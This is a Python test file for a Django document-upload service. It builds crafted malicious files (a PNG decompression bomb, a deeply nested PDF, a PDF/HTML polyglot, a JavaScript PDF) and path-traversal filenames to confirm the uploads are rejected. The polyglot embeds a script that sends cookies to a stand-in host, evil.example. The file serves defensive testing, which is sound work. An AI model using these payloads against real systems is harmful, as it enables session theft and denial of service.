"""Uploads are checked deeply once, at receipt, and served as what they are. The five crafted files of
issue 11 are generated here; each used to pass the first-bytes check and then make the leader's signature
of a certified copy answer 500."""

import io
import threading
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from motcua.core.errors import DomainError
from motcua.dossiers import services
from motcua.dossiers.models import Attachment, Dossier
from motcua.dossiers.uploads import check_upload, display_name

from .conftest import JPEG_BYTES, PDF_BYTES, PNG_BYTES, _real_pdf


# --- the crafted files ---------------------------------------------------------------------------------------
def _pdf(objects: list[bytes], extra: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table from numbered object bodies (object 1 is the catalog)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += extra
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def broken_pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def broken_jpeg() -> bytes:
    return JPEG_BYTES[: len(JPEG_BYTES) // 2]


def huge_png(width: int = 20000, height: int = 20000) -> bytes:
    """A 20000×20000 PNG of a few dozen kilobytes: a decompression bomb (400 million pixels)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])  # 1-bit grey
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def nested_pdf(depth: int = 5000) -> bytes:
    """A page whose resources nest arrays thousands deep: recursive parsers overflow."""
    nested = b"[" * depth + b"]" * depth
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep " + nested + b" >>",
        ]
    )


def polyglot_pdf() -> bytes:
    """A valid PDF that is also a web page when a browser sniffs it."""
    html = b"%<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ],
        extra=html,
    )


CRAFTED = {
    "broken.pdf": (broken_pdf, 422),
    "broken.jpg": (broken_jpeg, 422),
    "huge.png": (huge_png, 413),
    "nested.pdf": (nested_pdf, 422),
    "polyglot.pdf": (polyglot_pdf, 415),
}


@pytest.mark.parametrize("name", CRAFTED)
def test_crafted_files_are_refused_at_receipt(name):
    make, status = CRAFTED[name]
    data = make()
    assert len(data) < 10 * 1024 * 1024  # they pass the size check: the parser has to catch them
    with pytest.raises(DomainError) as refused:
        check_upload(SimpleUploadedFile(name, data))
    assert refused.value.status == status
    assert refused.value.fields["file"] and "«" in refused.value.message


def test_good_files_pass_with_pages_counted():
    assert check_upload(SimpleUploadedFile("a.pdf", _real_pdf(3))).pages == 3
    for data, content_type in ((PNG_BYTES, "image/png"), (JPEG_BYTES, "image/jpeg")):
        inspected = check_upload(SimpleUploadedFile("anh", data))
        assert inspected.content_type == content_type and inspected.pages == 1


def test_encrypted_and_javascript_pdfs_are_refused():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(PDF_BYTES)))
    writer.encrypt("mat-khau")
    locked = io.BytesIO()
    writer.write(locked)
    with pytest.raises(DomainError) as exc:
        check_upload(SimpleUploadedFile("khoa.pdf", locked.getvalue()))
    assert (exc.value.status, exc.value.code) == (415, "encrypted_pdf")
    scripted = _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )
    with pytest.raises(DomainError) as exc:
        check_upload(SimpleUploadedFile("js.pdf", scripted))
    assert (exc.value.status, exc.value.code) == (415, "active_content")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    kind=st.sampled_from([PDF_BYTES, PNG_BYTES, JPEG_BYTES]),
    cut=st.integers(min_value=0, max_value=10_000),
    noise=st.binary(max_size=200),
)
def test_damaged_files_are_refused_or_accepted_never_crash(kind, cut, noise):
    """Truncated or garbled real files: the check answers a domain error or accepts a file that later
    processing can read — it never raises anything else."""
    data = kind[: max(16, len(kind) - cut)] + noise
    try:
        inspected = check_upload(SimpleUploadedFile("x", data))
    except DomainError as exc:
        assert exc.status in (413, 415, 422)
    else:
        assert inspected.size == len(data)


def test_served_name_follows_the_real_type():
    assert display_name("anh.pdf", "jpg") == "anh.jpg"
    assert display_name("C:\\Users\\lan\\Giấy khai sinh.PNG", "png") == "Giấy khai sinh.png"
    assert display_name("../../etc/passwd", "pdf") == "passwd.pdf"
    assert display_name("\u202egnp.exe", "png") == "gnp.png"
    assert display_name("", "pdf") == "tep.pdf"


@pytest.fixture
def call(client):
    def _call(token, data, name):
        return client.post(
            "/api/v1/attachments",
            {"file": SimpleUploadedFile(name, data)},
            HTTP_AUTHORIZATION=f"Bearer {token}",
        )

    return _call


def test_api_refuses_crafted_files_and_keeps_nothing(call, citizen, api_token, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    token = api_token(citizen)
    for name, (make, status) in CRAFTED.items():
        response = call(token, make(), name)
        assert response.status_code == status, (name, response.content)
        assert set(response.json()) == {"code", "message", "fields"}
    assert Attachment.objects.count() == 0
    assert not any(p.is_file() for p in tmp_path.rglob("*"))  # no file left behind by a failed upload


def test_jpeg_named_pdf_is_stored_and_served_as_jpg(client, call, citizen, api_token):
    token = api_token(citizen)
    response = call(token, JPEG_BYTES, "anh.pdf")
    assert response.status_code == 201 and response.json()["content_type"] == "image/jpeg"
    attachment = Attachment.objects.get()
    assert attachment.original_name == "anh.jpg" and attachment.file.name.endswith(".jpg")
    client.force_login(citizen)
    served = client.get(f"/ho-so/tep/{attachment.pk}")
    assert served["Content-Type"] == "image/jpeg"
    assert 'filename="anh.jpg"' in served["Content-Disposition"]


def test_upload_quota(call, citizen, api_token, settings):
    settings.UPLOAD_QUOTA_FILES = 2
    token = api_token(citizen)
    assert call(token, PDF_BYTES, "1.pdf").status_code == 201
    assert call(token, PNG_BYTES, "2.png").status_code == 201
    third = call(token, JPEG_BYTES, "3.jpg")
    assert third.status_code == 429 and third.json()["code"] == "quota_exceeded"
    assert "24 giờ" in third.json()["message"] and Attachment.objects.count() == 2
    settings.UPLOAD_QUOTA_FILES = 10
    settings.UPLOAD_QUOTA_BYTES = len(PDF_BYTES) + len(PNG_BYTES) + 10
    assert call(token, JPEG_BYTES, "3.jpg").status_code == 429


@pytest.mark.django_db(transaction=True)
def test_parallel_uploads_respect_the_quota(citizen, settings):
    if connection.vendor != "postgresql":
        pytest.skip("row locks are exercised on PostgreSQL")
    settings.UPLOAD_QUOTA_FILES = 3
    outcomes = []

    def upload(n):
        try:
            services.attachment_upload(owner=citizen, upload=SimpleUploadedFile(f"{n}.png", PNG_BYTES))
            outcomes.append("ok")
        except DomainError as exc:
            outcomes.append(exc.code)
        finally:
            connection.close()

    threads = [threading.Thread(target=upload, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert outcomes.count("ok") == 3 and outcomes.count("quota_exceeded") == 5
    assert Attachment.objects.count() == 3


def test_certified_copy_signing_of_a_legacy_broken_scan_is_a_clear_422(catalog, office_a, staff, client):
    """Files stored before the checks (or damaged on disk) no longer make the leader's signature 500."""
    from motcua.core.errors import ValidationFailed

    from .test_documents import FLOW, run_flow

    client.force_login(staff["tiepnhan"])
    intake = client.post(
        "/can-bo/tiep-nhan",
        {
            "procedure": "2.000815",
            "citizen_id": "001090012345",
            "full_name": "Nguyễn Văn An",
            "birth_date": "1990-01-01",
            "gender": "male",
            "phone": "0987654321",
            "ten_giay_to": "Bằng tốt nghiệp THPT",
            "so_trang": "1",
            "so_ban": "1",
            "scans": SimpleUploadedFile("bang.pdf", PDF_BYTES),
            "documents": ["Bản chính giấy tờ, văn bản cần chứng thực"],
            "idempotency_key": "legacy-1",
        },
    )
    assert intake.status_code == 302
    dossier = Dossier.objects.get(procedure__code="2.000815")
    scan = dossier.attachments.get()
    with open(scan.file.path, "wb") as handle:  # as if stored before the checks existed
        handle.write(nested_pdf())
    with pytest.raises(ValidationFailed) as refused:
        run_flow(dossier, staff, FLOW[1:])
    assert refused.value.code == "scan_unreadable" and "bổ sung bản quét" in refused.value.message
    assert Dossier.objects.get(pk=dossier.pk).status == "approved"
